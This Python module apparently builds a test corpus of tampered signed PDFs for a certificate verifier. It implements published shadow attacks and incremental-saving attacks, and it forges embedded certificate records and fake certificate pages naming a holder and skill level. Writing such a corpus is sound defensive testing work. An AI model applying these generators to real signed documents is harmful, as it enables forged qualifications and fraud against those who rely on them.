"""A corpus of hostile uploads for the verifier, generated from genuine certificates (issue 11).

Nothing here is checked in as a binary: :func:`corpus` builds every item from a few genuine
sealed PDFs and the demo PKI, seeded, in seconds. Each :class:`Attack` names its class and
says whether ``valid`` is an acceptable verdict (only genuine untouched certificates and
legitimate long-term-validation updates).

Classes, after the literature where there is one:

* structural: truncation, random bytes, bit flips inside the signed bytes, splices, bombs
  (single and nested filters, in the embedded record, a content stream, an object stream, the
  DSS, an image, an appearance, the upload limit), deep nesting, xref loops, encryption,
  JavaScript and other actions, 50,000 objects, 3,000 pages;
* shadow attacks (Mainka, Mladenov, Rohlmann, "Shadow Attacks: Hiding and Replacing Content in
  Signed PDFs", NDSS 2021): hide, replace and hide-and-replace, via annotations (FreeText,
  Stamp, Square, Redact, Watermark with ``/AP``), widgets (an unsigned ``/FT /Sig`` widget, a
  push button, an appearance given to the signed seal widget) and form fields (text, choice);
* incremental saving attacks, universal signature forgery and signature wrapping (Mladenov,
  Mainka, Meyer zu Selhausen, Grothe, Schwenk, "1 Trillion Dollar Refund: How To Spoof PDF
  Signatures", CCS 2019): ``/Contents`` and ``/ByteRange`` tampering, relocated signed bytes,
  objects hidden in the ``/Contents`` gap;
* a signature copied from another certificate, re-signatures with self-made keys of the same
  subject (and with other trusted but wrong certificates), forged embedded records, crafted
  records, DSS entries of the wrong type, certified documents (DocMDP P1/P2/P3, FieldMDP)
  followed by each kind of change, signatures under disallowed algorithms.

Incremental updates are written by hand (:func:`append_update`): new objects, an xref section
and a trailer with ``/Prev``, so the signed bytes stay untouched. pikepdf reads the genuine
files and rewrites them where a full rewrite is the point; pyHanko signs.
"""

from __future__ import annotations

import io
import itertools
import json
import random
import re
import struct
import zlib
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from typing import Any
from unittest import mock

__all__ = ["Attack", "Doc", "append_update", "corpus", "flate_zeros"]

SEED = 20261111
MiB = 1024 * 1024


@dataclass(frozen=True, slots=True)
class Attack:
    cls: str
    name: str
    data: bytes
    may_be_valid: bool = False  # a genuine untouched certificate, or one with legitimate LTV data only


# --------------------------------------------------------------------------------------------
# bytes-level helpers


def flate_zeros(mib: int) -> bytes:
    """A zlib stream of ``mib`` MiB of zeros (≈ 1 KB per MiB), built without compressing it all.

    After a full flush each further MiB of zeros compresses to the same bytes, so the stream is
    one first block, a repeated block, an empty final block and the Adler-32 of n zeros
    (``(n mod 65521) << 16 | 1``).
    """
    z = bytes(MiB)
    c = zlib.compressobj(9)
    first = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(z) + c.flush(zlib.Z_FULL_FLUSH)
    n = mib * MiB
    return first + again * (mib - 1) + b"\x03\x00" + struct.pack(">I", ((n % 65521) << 16) | 1)


def stream(dict_body: bytes, data: bytes) -> bytes:
    """An object body: ``<< dict_body /Length n >> stream … endstream``."""
    return b"<< " + dict_body + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_string(text: str) -> bytes:
    """A PDF text string: ASCII as a literal, anything else as UTF-16BE hex with a BOM."""
    if text.isascii():
        return b"(" + text.encode().replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b")"
    return b"<feff" + text.encode("utf-16-be").hex().encode() + b">"


def syntax(v: Any) -> bytes:
    """A value pikepdf handed out (an Object, or a Python scalar), as PDF syntax."""
    if isinstance(v, bool):
        return b"true" if v else b"false"
    if isinstance(v, int):
        return b"%d" % v
    if isinstance(v, float):
        return b"%.6f" % v
    if hasattr(v, "unparse"):
        return v.unparse()  # type: ignore[no-any-return]
    import decimal

    if isinstance(v, decimal.Decimal):
        return str(v).encode()
    if isinstance(v, str):
        return pdf_string(v)
    raise TypeError(type(v))


def _xref_table(entries: Mapping[int, tuple[int, int, bytes]]) -> bytes:
    out = bytearray(b"xref\n")
    nums = sorted(entries)
    for _, run in itertools.groupby(enumerate(nums), key=lambda t: t[1] - t[0]):
        group = [n for _, n in run]
        out += b"%d %d\n" % (group[0], len(group))
        for n in group:
            off, gen, kind = entries[n]
            out += b"%010d %05d %s \n" % (off, gen, kind)
    return bytes(out)


def _xref_stream(entries: Mapping[int, tuple[int, int, int]], trailer: bytes) -> bytes:
    """An xref stream body (``/W [1 4 4]``): entries are (type, field2, field3)."""
    nums = sorted(entries)
    index: list[int] = []
    rows = bytearray()
    for _, run in itertools.groupby(enumerate(nums), key=lambda t: t[1] - t[0]):
        group = [n for _, n in run]
        index += [group[0], len(group)]
        for n in group:
            t, f2, f3 = entries[n]
            rows += struct.pack(">BII", t, f2, f3)
    idx = b" ".join(b"%d" % i for i in index)
    return stream(b"/Type /XRef /W [1 4 4] /Index [" + idx + b"] " + trailer, bytes(rows))


def last_startxref(data: bytes) -> int:
    found = re.findall(rb"startxref\s+(\d+)", data[-4096:]) or re.findall(rb"startxref\s+(\d+)", data)
    return int(found[-1])


def append_update(
    base: bytes,
    objects: Mapping[int, bytes],
    *,
    root: int,
    size: int,
    info: int | None = None,
    id_raw: bytes | None = None,
    prev: int | str | None = "auto",
    free: Iterable[int] = (),
    trailer_extra: bytes = b"",
    compressed: Mapping[int, tuple[int, int]] | None = None,
    xref_stream: bool = False,
) -> bytes:
    """``base`` plus one incremental update section: ``objects`` (number → body), an xref
    (table, or a stream when ``xref_stream`` or ``compressed``), and a trailer with ``/Prev``.

    ``prev="auto"`` points at the last ``startxref`` of ``base``; ``None`` leaves ``/Prev`` out;
    an int writes that value (xref loops). ``compressed`` maps object numbers to (object
    stream, index) entries of an xref stream.
    """
    out = bytearray(base)
    if not out.endswith(b"\n"):
        out += b"\n"
    offsets: dict[int, int] = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    prev_value = last_startxref(base) if prev == "auto" else prev
    top = max([size, *(n + 1 for n in objects), *(n + 1 for n in compressed or {})])
    trailer = b"/Size %d /Root %d 0 R" % (top, root)
    if info is not None:
        trailer += b" /Info %d 0 R" % info
    if id_raw is not None:
        trailer += b" /ID " + id_raw
    if prev_value is not None:
        trailer += b" /Prev %d" % prev_value  # type: ignore[str-format]
    trailer += trailer_extra
    xref_at = len(out)
    if xref_stream or compressed:
        xnum = top
        trailer = trailer.replace(b"/Size %d" % top, b"/Size %d" % (top + 1))
        rows: dict[int, tuple[int, int, int]] = {0: (0, 0, 65535)}
        rows |= {n: (0, 0, 1) for n in free}
        rows |= {n: (1, off, 0) for n, off in offsets.items()}
        rows |= {n: (2, s, i) for n, (s, i) in (compressed or {}).items()}
        rows[xnum] = (1, xref_at, 0)
        out += b"%d 0 obj\n" % xnum + _xref_stream(rows, trailer) + b"\nendobj\n"
    else:
        entries: dict[int, tuple[int, int, bytes]] = {0: (0, 65535, b"f")}
        entries |= {n: (0, 1, b"f") for n in free}
        entries |= {n: (off, 0, b"n") for n, off in offsets.items()}
        out += _xref_table(entries) + b"trailer\n<< " + trailer + b" >>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


# --------------------------------------------------------------------------------------------
# one genuine certificate, opened for reading


HELV = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


@dataclass
class Sig:
    field: int  # the signature field (merged widget) object
    value: int  # the signature dictionary object
    byte_range: tuple[int, int, int, int]
    br_at: int  # offset of the "/ByteRange [" text


class Doc:
    """A genuine (or any sealed) PDF with the object numbers and offsets attacks need."""

    def __init__(self, data: bytes, label: str) -> None:
        import pikepdf

        self.data = data
        self.label = label
        self.pdf = pikepdf.open(io.BytesIO(data))
        pdf = self.pdf
        self.root = pdf.Root.objgen[0]
        info = pdf.trailer.get("/Info")
        self.info = info.objgen[0] if info is not None and info.is_indirect else None
        self.size = int(pdf.trailer.Size)
        ids = re.findall(rb"/ID\s*(\[\s*<[0-9A-Fa-f]*>\s*<[0-9A-Fa-f]*>\s*\])", data)
        self.id_raw = ids[-1] if ids else None
        self.page = pdf.pages[0].objgen[0]
        self.page_obj = pdf.pages[0].obj
        self.contents = self.page_obj.Contents.objgen[0]
        self.resources = self.page_obj.Resources.objgen[0] if self.page_obj.Resources.is_indirect else None
        self.pages_root = pdf.Root.Pages.objgen[0]
        acro = pdf.Root.get("/AcroForm")
        self.acroform = acro.objgen[0] if acro is not None and acro.is_indirect else None
        self.mediabox = [float(x) for x in self.page_obj.MediaBox]
        self.sigs: list[Sig] = []
        for f in acro.Fields if acro is not None else []:
            if f.get("/FT") == "/Sig" and "/V" in f:
                br = tuple(int(x) for x in f.V.ByteRange)
                at = data.rfind(b"/ByteRange", 0, br[2] + 64)
                self.sigs.append(Sig(f.objgen[0], f.V.objgen[0], br, at))
        self.ef: int | None = None  # the embedded certificate.json stream
        self.filespec: int | None = None
        self.record: dict[str, Any] = {}
        spec = pdf.attachments.get("certificate.json")
        if spec is not None:
            self.record = json.loads(spec.get_file().read_bytes())
            names = pdf.Root.Names.EmbeddedFiles.Names
            self.filespec = names[1].objgen[0]
            self.ef = names[1].EF.F.objgen[0]
        self.dss = pdf.Root.DSS.objgen[0] if "/DSS" in pdf.Root and pdf.Root.DSS.is_indirect else None
        self.name_box = self._find(str(self.record.get("name") or "")) or (150.0, 460.0, 120.0, 24.0)
        self.startxref = last_startxref(data)

    def _find(self, text: str) -> tuple[float, float, float, float] | None:
        """Where ``text`` is drawn on page 1 (x, y, w, h in points), found with pdfium."""
        if not text:
            return None
        try:
            import pypdfium2 as pdfium

            doc = pdfium.PdfDocument(self.data)
            try:
                tp = doc[0].get_textpage()
                hit = tp.search(text).get_next()
                if not hit:
                    return None
                boxes = [tp.get_charbox(i) for i in range(hit[0], hit[0] + hit[1])]
                x0, y0 = min(b[0] for b in boxes), min(b[1] for b in boxes)
                x1, y1 = max(b[2] for b in boxes), max(b[3] for b in boxes)
                return x0 - 4, y0 - 4, x1 - x0 + 60, y1 - y0 + 8
            finally:
                doc.close()
        except Exception:  # pdfium missing or the text not found: a fixed box will do
            return None

    # -- reading objects

    def obj(self, num: int) -> Any:
        return self.pdf.get_object((num, 0))

    def body(self, num: int, *, drop: Iterable[str] = (), **changes: bytes) -> bytes:
        """Object ``num`` as PDF syntax with keys dropped or set (values as PDF syntax)."""
        o = self.obj(num)
        parts = [
            k.encode() + b" " + syntax(v)
            for k, v in o.items()
            if k[1:] not in changes and k[1:] not in drop and k != "/Length"
        ]
        parts += [b"/" + k.encode() + b" " + v for k, v in changes.items()]
        inner = b"\n".join(parts)
        if hasattr(o, "read_raw_bytes") and isinstance(o, self._stream_type()):
            return stream(inner, o.read_raw_bytes())
        return b"<< " + inner + b" >>"

    @staticmethod
    def _stream_type() -> type:
        import pikepdf

        return pikepdf.Stream

    def array(self, num: int, key: str) -> list[bytes]:
        """The items of array ``key`` of object ``num``, as PDF syntax."""
        arr = self.obj(num).get(key)
        if arr is None:
            return []
        if not isinstance(arr, self._array_type()):
            return [syntax(arr)]
        return [syntax(x) for x in arr]

    @staticmethod
    def _array_type() -> type:
        import pikepdf

        return pikepdf.Array

    def numbers(self) -> Iterator[int]:
        return itertools.count(self.size)

    # -- writing one incremental update

    def update(self, objects: Mapping[int, bytes], *, base: bytes | None = None, **kw: Any) -> bytes:
        kw.setdefault("root", self.root)
        kw.setdefault("size", self.size)
        kw.setdefault("info", self.info)
        kw.setdefault("id_raw", self.id_raw)
        return append_update(self.data if base is None else base, objects, **kw)

    def page_with(self, *, annots: Sequence[int] = (), **changes: bytes) -> bytes:
        """The page dictionary with annotations appended and keys changed."""
        if annots:
            items = self.array(self.page, "/Annots") + [b"%d 0 R" % n for n in annots]
            changes["Annots"] = b"[ " + b" ".join(items) + b" ]"
        return self.body(self.page, **changes)

    def with_annotation(self, annot: bytes, extra: Mapping[int, bytes] = (), *, is_field: bool = False) -> bytes:
        """One new annotation (with its extra objects) on page 1; a form field joins /Fields too."""
        nums = itertools.count(max([self.size, *extra]) + 1 if extra else self.size)
        a = next(nums)
        objects = dict(extra)
        objects[a] = annot.replace(b"@PAGE@", b"%d 0 R" % self.page)
        objects[self.page] = self.page_with(annots=[a])
        if is_field:
            objects.update(self.fields_with([a]))
        return self.update(objects)

    def fields_with(self, fields: Sequence[int], **changes: bytes) -> dict[int, bytes]:
        items = (self.array(self.acroform, "/Fields") if self.acroform else []) + [b"%d 0 R" % n for n in fields]
        changes["Fields"] = b"[ " + b" ".join(items) + b" ]"
        if self.acroform is not None:
            return {self.acroform: self.body(self.acroform, **changes)}
        acro = self.size + 900
        return {
            acro: b"<< /Fields " + changes["Fields"] + b" >>",
            self.root: self.body(self.root, AcroForm=b"%d 0 R" % acro),
        }

    def close(self) -> None:
        self.pdf.close()

    def first_revision(self) -> bytes:
        """The rendered, unsigned bytes: everything up to the first ``%%EOF``."""
        end = self.data.index(b"%%EOF") + 5
        if self.data[end : end + 1] == b"\n":
            end += 1
        elif self.data[end : end + 2] == b"\r\n":
            end += 2
        return self.data[:end]

    def signed_revision(self, i: int = 0) -> bytes:
        """The bytes the ``i``-th signature covers, as one file (without the later DSS)."""
        br = self.sigs[i].byte_range
        return self.data[: br[2] + br[3]]


# --------------------------------------------------------------------------------------------
# drawing: appearance streams, overlays, a fake page


def form_xobject(w: float, h: float, ops: bytes) -> bytes:
    res = b" /Resources << /Font << /Helv " + HELV + b" >> >>"
    return stream(b"/Type /XObject /Subtype /Form /BBox [0 0 %.2f %.2f]" % (w, h) + res, ops)


def paint(w: float, h: float, mode: str, text: bytes = b"WANG WEI  LEVEL 1") -> bytes:
    """A white box (``hide``), plus other text (``replace`` and ``hide-and-replace``)."""
    ops = b"q 1 1 1 rg 0 0 %.2f %.2f re f Q" % (w, h)
    if mode != "hide":
        size = max(6.0, min(14.0, h * 0.6))
        ops += b" q 0 0 0 rg BT /Helv %.1f Tf 2 %.2f Td (%s) Tj ET Q" % (size, max(1.0, (h - size) / 2), text)
    return ops


FAKE_PAGE = (
    b"q 1 1 1 rg 0 0 2000 2000 re f Q BT /Helv 28 Tf 60 760 Td (CERTIFICATE OF OCCUPATIONAL SKILL) Tj ET "
    b"BT /Helv 16 Tf 60 700 Td (Name: WANG WEI   Level: 1 \\(Senior Technician\\)) Tj ET "
    b"BT /Helv 12 Tf 60 660 Td (Number: S000011084012261999999) Tj ET"
)


def _rect(box: tuple[float, float, float, float]) -> bytes:
    x, y, w, h = box
    return b"[%.2f %.2f %.2f %.2f]" % (x, y, x + w, y + h)


def _wh(box: tuple[float, float, float, float]) -> tuple[float, float]:
    return box[2], box[3]


# --------------------------------------------------------------------------------------------
# shadow attacks


def _annot(subtype: bytes, box: tuple[float, float, float, float], ap: int, extra: bytes = b"") -> bytes:
    return (
        b"<< /Type /Annot /Subtype " + subtype + b" /Rect " + _rect(box) + b" /F 4 /P @PAGE@ "
        b"/AP << /N %d 0 R >> " % ap + extra + b" >>"
    )


def _shadow_items(doc: Doc) -> Iterator[tuple[str, str, bytes]]:
    """(class, name, bytes) for every shadow attack on ``doc``."""
    name = doc.name_box
    mb = doc.mediabox
    page_box = (mb[0], mb[1], mb[2] - mb[0], mb[3] - mb[1])
    ap = doc.size + 800

    def annotation(mode: str, subtype: bytes, box: tuple[float, float, float, float], extra: bytes = b"") -> bytes:
        w, h = _wh(box)
        return doc.with_annotation(_annot(subtype, box, ap, extra), {ap: form_xobject(w, h, paint(w, h, mode))})

    def widget(mode: str, ft: bytes, box: tuple[float, float, float, float], extra: bytes = b"") -> bytes:
        w, h = _wh(box)
        body = _annot(b"/Widget", box, ap, b"/FT " + ft + b" /T (Seal9-%s) " % mode.encode() + extra)
        return doc.with_annotation(body, {ap: form_xobject(w, h, paint(w, h, mode))}, is_field=True)

    def seal_widget_ap(mode: str) -> bytes:
        """An appearance given, after signing, to the signed seal widget itself."""
        sig = doc.sigs[0]
        rect = [float(x) for x in doc.obj(sig.field).Rect]
        w, h = rect[2] - rect[0], rect[3] - rect[1]
        objects = {
            ap: form_xobject(w, h, paint(w, h, mode, b"VOID")),
            sig.field: doc.body(sig.field, AP=b"<< /N %d 0 R >>" % ap),
        }
        return doc.update(objects)

    def text_field(mode: str, box: tuple[float, float, float, float], *, need_appearances: bool = False) -> bytes:
        w, h = _wh(box)
        value = b"" if mode == "hide" else b"WANG WEI  LEVEL 1"
        f = doc.size + 801
        body = (
            b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (holder) /V (" + value + b") /DA (/Helv 12 Tf 0 g) "
            b"/MK << /BG [1 1 1] >> /Rect " + _rect(box) + b" /F 4 /P %d 0 R" % doc.page
        )
        objects: dict[int, bytes] = {}
        if need_appearances:
            body += b" >>"
            objects.update(doc.fields_with([f], NeedAppearances=b"true", DR=b"<< /Font << /Helv " + HELV + b" >> >>"))
        else:
            body += b" /AP << /N %d 0 R >> >>" % ap
            objects[ap] = form_xobject(w, h, paint(w, h, mode))
            objects.update(doc.fields_with([f]))
        objects[f] = body
        objects[doc.page] = doc.page_with(annots=[f])
        return doc.update(objects)

    def choice_field(box: tuple[float, float, float, float]) -> bytes:
        w, h = _wh(box)
        f = doc.size + 801
        body = (
            b"<< /Type /Annot /Subtype /Widget /FT /Ch /Ff 131072 /T (level) /Opt [(LEVEL 1) (LEVEL 5)] "
            b"/V (LEVEL 1) /DA (/Helv 12 Tf 0 g) /Rect " + _rect(box) + b" /F 4 /P %d 0 R" % doc.page
        )
        body += b" /AP << /N %d 0 R >> >>" % ap
        objects = {ap: form_xobject(w, h, paint(w, h, "replace", b"LEVEL 1")), f: body}
        objects[doc.page] = doc.page_with(annots=[f])
        objects.update(doc.fields_with([f]))
        return doc.update(objects)

    def overlay(mode: str, box: tuple[float, float, float, float]) -> bytes:
        """A content stream appended to the page: /Contents [original, overlay]."""
        x, y, w, h = box
        ops = b"q 1 0 0 1 %.2f %.2f cm " % (x, y) + paint(w, h, mode) + b" Q"
        c, font_res = doc.size + 802, doc.size + 803
        objects = {
            c: stream(b"", ops),
            doc.page: doc.page_with(Contents=b"[ %d 0 R %d 0 R ]" % (doc.contents, c), Resources=b"%d 0 R" % font_res),
        }
        res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
        fonts = b" ".join(k.encode() + b" " + syntax(v) for k, v in res.Font.items())
        objects[font_res] = (
            doc.body(doc.resources, Font=b"<< " + fonts + b" /Helv " + HELV + b" >>")
            if doc.resources
            else (b"<< /Font << " + fonts + b" /Helv " + HELV + b" >> >>")
        )
        return doc.update(objects)

    def cropped() -> bytes:
        y = name[1]
        return doc.update({doc.page: doc.page_with(CropBox=b"[%.2f %.2f %.2f %.2f]" % (mb[0], mb[1], mb[2], y))})

    def content_revision(full: bool) -> bytes:
        """A new revision of the page's content stream object: same number, other content."""
        original = doc.obj(doc.contents).read_bytes()
        x, y, w, h = name
        ops = FAKE_PAGE if full else original + b"\nq 1 0 0 1 %.2f %.2f cm " % (x, y) + paint(w, h, "replace") + b" Q"
        res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
        fonts = b" ".join(k.encode() + b" " + syntax(v) for k, v in res.Font.items())
        objects = {doc.contents: stream(b"/Filter /FlateDecode", zlib.compress(ops))}
        if doc.resources:
            objects[doc.resources] = doc.body(doc.resources, Font=b"<< " + fonts + b" /Helv " + HELV + b" >>")
        return doc.update(objects)

    def page_revision() -> bytes:
        c, r = doc.size + 802, doc.size + 803
        return doc.update(
            {
                c: stream(b"", FAKE_PAGE),
                r: b"<< /Font << /Helv " + HELV + b" >> >>",
                doc.page: doc.page_with(Contents=b"%d 0 R" % c, Resources=b"%d 0 R" % r),
            }
        )

    def kids_redirect() -> bytes:
        p, c, r = doc.size + 802, doc.size + 803, doc.size + 804
        annots = b"[ " + b" ".join(doc.array(doc.page, "/Annots")) + b" ]"
        return doc.update(
            {
                c: stream(b"", FAKE_PAGE),
                r: b"<< /Font << /Helv " + HELV + b" >> >>",
                p: b"<< /Type /Page /Parent %d 0 R /MediaBox [%.2f %.2f %.2f %.2f] /Contents %d 0 R /Resources %d 0 R /Annots "
                % (doc.pages_root, *mb, c, r)
                + annots
                + b" >>",
                doc.pages_root: doc.body(doc.pages_root, Kids=b"[ %d 0 R ]" % p),
            }
        )

    def content_array() -> bytes:
        c, r = doc.size + 802, doc.size + 803
        res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
        fonts = b" ".join(k.encode() + b" " + syntax(v) for k, v in res.Font.items())
        objects = {
            c: stream(b"", FAKE_PAGE),
            doc.page: doc.page_with(Contents=b"[ %d 0 R %d 0 R ]" % (doc.contents, c), Resources=b"%d 0 R" % r),
            r: doc.body(doc.resources, Font=b"<< " + fonts + b" /Helv " + HELV + b" >>")
            if doc.resources
            else b"<< /Font << /Helv " + HELV + b" >> >>",
        }
        return doc.update(objects)

    def photo_replaced() -> bytes:
        res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
        xobjs = [(k, v) for k, v in res.get("/XObject", {}).items() if v.get("/Subtype") == "/Image"]
        if not xobjs:
            return overlay("replace", name)
        _, img = xobjs[0]
        w, h = int(img.Width), int(img.Height)
        gray = zlib.compress(bytes([128]) * (w * h))
        return doc.update(
            {
                img.objgen[0]: stream(
                    b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray /BitsPerComponent 8 "
                    b"/Filter /FlateDecode" % (w, h),
                    gray,
                )
            }
        )

    def font_replaced() -> bytes:
        """The font that draws the name gets another font program (the glyphs draw other shapes)."""
        res = doc.obj(doc.resources) if doc.resources else doc.page_obj.Resources
        fonts = list(res.Font.values())
        if len(fonts) < 2:
            return overlay("replace", name)
        target, donor = fonts[0], fonts[-1]
        t_desc = target.DescendantFonts[0].FontDescriptor if "/DescendantFonts" in target else target.FontDescriptor
        d_desc = donor.DescendantFonts[0].FontDescriptor if "/DescendantFonts" in donor else donor.FontDescriptor
        key = next(k for k in ("/FontFile2", "/FontFile3", "/FontFile") if k in d_desc)
        tkey = next((k for k in ("/FontFile2", "/FontFile3", "/FontFile") if k in t_desc), key)
        num = t_desc.objgen[0]
        return doc.update({num: doc.body(num, drop=[tkey[1:]], **{key[1:]: d_desc[key].unparse()})})

    def resources_replaced() -> bytes:
        if not doc.resources:
            return overlay("replace", name)
        res = doc.obj(doc.resources)
        fonts = list(res.Font.items())
        swapped = b" ".join(
            fonts[i][0].encode() + b" " + syntax(fonts[(i + 1) % len(fonts)][1]) for i in range(len(fonts))
        )
        return doc.update({doc.resources: doc.body(doc.resources, Font=b"<< " + swapped + b" >>")})

    white = b" /C [1 1 1] /IC [1 1 1] /Contents (note)"
    for mode in ("hide", "replace"):
        c = f"shadow-{mode}"
        yield (
            c,
            f"annot-freetext-{mode}",
            annotation(mode, b"/FreeText", name, b"/DA (/Helv 12 Tf 0 g) /Contents (WANG WEI)"),
        )
        yield c, f"annot-stamp-{mode}", annotation(mode, b"/Stamp", name, b"/Name /Approved")
        yield c, f"annot-square-{mode}", annotation(mode, b"/Square", name, white)
        yield c, f"widget-unsigned-sig-{mode}", widget(mode, b"/Sig", name)
        yield c, f"widget-pushbutton-{mode}", widget(mode, b"/Btn", name, b"/Ff 65536")
        yield c, f"widget-seal-ap-{mode}", seal_widget_ap(mode)
        yield c, f"field-text-{mode}", text_field(mode, name)
        yield c, f"page-overlay-{mode}", overlay(mode, name)
    yield "shadow-hide", "annot-redact-hide", annotation("hide", b"/Redact", name, white + b" /OverlayText ()")
    yield "shadow-hide", "annot-watermark-hide", annotation("hide", b"/Watermark", name)
    yield "shadow-hide", "page-cropbox-hide", cropped()
    yield "shadow-replace", "field-text-need-appearances", text_field("replace", name, need_appearances=True)
    yield "shadow-replace", "field-choice-replace", choice_field(name)
    yield "shadow-replace", "content-overlay-revision", content_revision(full=False)
    yield "shadow-replace", "photo-replaced", photo_replaced()
    yield "shadow-replace", "font-program-replaced", font_replaced()
    yield "shadow-replace", "font-resources-swapped", resources_replaced()
    har = "shadow-hide-and-replace"
    yield har, "content-stream-new-revision", content_revision(full=True)
    yield har, "page-object-new-revision", page_revision()
    yield har, "pages-kids-redirect", kids_redirect()
    yield har, "content-array-full-page", content_array()
    yield har, "annot-stamp-full-page", annotation("hide-and-replace", b"/Stamp", page_box)
    yield har, "widget-unsigned-sig-full-page", widget("hide-and-replace", b"/Sig", page_box)
    yield har, "field-text-full-page", text_field("hide-and-replace", page_box)


# --------------------------------------------------------------------------------------------
# incremental saving attacks and forged records


def _record_stream(doc: Doc, data: bytes, *, filters: bytes = b"/FlateDecode", encode: bool = True) -> bytes:
    payload = zlib.compress(data) if encode and filters == b"/FlateDecode" else data
    return stream(
        b"/Type /EmbeddedFile /Subtype /application#2Fjson /Filter " + filters + b" /Params << /Size %d >>" % len(data),
        payload,
    )


def with_record(doc: Doc, record: Any, *, raw: bytes | None = None) -> bytes:
    """The embedded certificate.json replaced in an incremental update (the seal stays intact)."""
    data = raw if raw is not None else json.dumps(record, ensure_ascii=False).encode()
    assert doc.ef is not None
    return doc.update({doc.ef: _record_stream(doc, data)})


def _fake_page(doc: Doc, nums: Iterator[int], parent: int) -> tuple[int, dict[int, bytes]]:
    p, c = next(nums), next(nums)
    mb = doc.mediabox
    return p, {
        c: stream(b"", FAKE_PAGE),
        p: b"<< /Type /Page /Parent %d 0 R /MediaBox [%.2f %.2f %.2f %.2f] /Contents %d 0 R "
        b"/Resources << /Font << /Helv " % (parent, *mb, c) + HELV + b" >> >> >>",
    }


def _incremental_items(doc: Doc, other: Doc) -> Iterator[tuple[str, str, bytes, bool]]:
    """(class, name, bytes, may_be_valid): incremental saving attacks on ``doc``."""
    c = "incremental"
    nums = doc.numbers()
    kids = doc.array(doc.pages_root, "/Kids")

    p, objs = _fake_page(doc, nums, doc.pages_root)
    objs[doc.pages_root] = doc.body(doc.pages_root, Kids=b"[ " + b" ".join([*kids, b"%d 0 R" % p]) + b" ]", Count=b"2")
    yield c, "page-added", doc.update(objs), False

    p, objs = _fake_page(doc, nums, doc.pages_root)
    objs[doc.pages_root] = doc.body(doc.pages_root, Kids=b"[ " + b" ".join([b"%d 0 R" % p, *kids]) + b" ]", Count=b"2")
    yield c, "page-inserted-first", doc.update(objs), False

    yield c, "page-removed", doc.update({doc.pages_root: doc.body(doc.pages_root, Kids=b"[ ]", Count=b"0")}), False

    p, objs = _fake_page(doc, nums, doc.pages_root)
    objs[doc.pages_root] = doc.body(doc.pages_root, Kids=b"[ %d 0 R ]" % p)
    yield c, "page-replaced", doc.update(objs), False

    # a new /Root in a later trailer: new catalog and page tree, the old catalog left behind
    for keep_form in (True, False):
        cat, pages = next(nums), next(nums)
        p, objs = _fake_page(doc, nums, pages)
        objs[pages] = b"<< /Type /Pages /Kids [ %d 0 R ] /Count 1 >>" % p
        drop = [] if keep_form else ["AcroForm", "DSS"]
        objs[cat] = doc.body(doc.root, drop=drop, Pages=b"%d 0 R" % pages)
        suffix = "keeping-acroform-and-dss" if keep_form else "without-acroform"
        yield c, f"catalog-swapped-{suffix}", doc.update(objs, root=cat), False
    cat = next(nums)
    yield c, "catalog-swapped-same-content", doc.update({cat: doc.body(doc.root)}, root=cat), False
    cat = next(nums)
    open_page = b"[ %d 0 R /XYZ 0 0 8 ]" % doc.page
    yield c, "catalog-open-action-zoom", doc.update({doc.root: doc.body(doc.root, OpenAction=open_page)}), False

    meta = next(nums)
    xmp = b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"/><?xpacket end="w"?>'
    yield (
        c,
        "xmp-metadata-replaced",
        doc.update(
            {
                meta: stream(b"/Type /Metadata /Subtype /XML", xmp),
                doc.root: doc.body(doc.root, Metadata=b"%d 0 R" % meta),
            }
        ),
        False,
    )
    if doc.info is not None:
        yield c, "info-replaced", doc.update({doc.info: b"<< /Title (Forged) /Author (WANG WEI) >>"}), False

    forged = dict(doc.record) | {"name": "王伟", "level": 1}
    yield c, "embedded-record-forged", with_record(doc, forged), False
    yield c, "embedded-record-of-other-certificate", with_record(doc, other.record), False
    # a second certificate.json, sorted first in the name tree
    spec, ef = next(nums), next(nums)
    rec = json.dumps(other.record, ensure_ascii=False).encode()
    names_root = doc.obj(doc.root).Names
    tree = (
        b"<< /EmbeddedFiles << /Names [ (certificate.json) %d 0 R " % spec
        + b" ".join(syntax(x) for x in names_root.EmbeddedFiles.Names)
        + b" ] >> >>"
    )
    objs = {
        ef: _record_stream(doc, rec),
        spec: b"<< /Type /Filespec /F (certificate.json) /UF (certificate.json) /AFRelationship /Data /EF << /F %d 0 R /UF %d 0 R >> >>"
        % (ef, ef),
        doc.root: doc.body(doc.root, Names=tree, AF=b"[ %d 0 R ]" % spec),
    }
    yield c, "embedded-record-second-attachment-first", doc.update(objs), False
    spec2 = next(nums)
    objs = {
        doc.root: doc.body(
            doc.root,
            Names=b"<< /EmbeddedFiles << /Names [ (certificate.json) %d 0 R ] >> >>" % spec2,
            AF=b"[ %d 0 R ]" % spec2,
        ),
        spec2: objs[spec],
        ef: objs[ef],
    }
    yield c, "embedded-files-tree-replaced", doc.update(objs), False
    yield (
        c,
        "acroform-fields-emptied",
        doc.update({doc.acroform: doc.body(doc.acroform, Fields=b"[ ]")}) if doc.acroform else doc.data + b" ",
        False,
    )
    yield c, "acroform-removed", doc.update({doc.root: doc.body(doc.root, drop=["AcroForm"])}), False
    yield c, "signature-value-freed", doc.update({}, free=[doc.sigs[0].value]), False
    yield c, "signature-field-freed", doc.update({}, free=[doc.sigs[0].field]), False
    yield c, "embedded-record-freed", doc.update({}, free=[doc.ef] if doc.ef else []), False
    yield c, "dss-removed", doc.update({doc.root: doc.body(doc.root, drop=["DSS"])}), False
    yield c, "annots-removed-seal-widget", doc.update({doc.page: doc.body(doc.page, Annots=b"[ ]")}), False
